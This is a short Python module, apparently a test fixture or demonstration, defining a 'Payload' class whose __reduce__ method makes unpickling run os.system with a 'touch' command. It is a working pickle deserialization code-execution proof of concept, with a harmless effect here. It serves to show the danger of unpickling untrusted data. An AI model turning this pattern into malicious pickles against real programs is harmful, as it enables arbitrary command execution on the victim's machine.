"""What a stranger could put where a program unpickles."""

import os
from pathlib import Path
from typing import Any

__all__ = ["Payload"]


class Payload:
    """Touches a file when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.path}",)
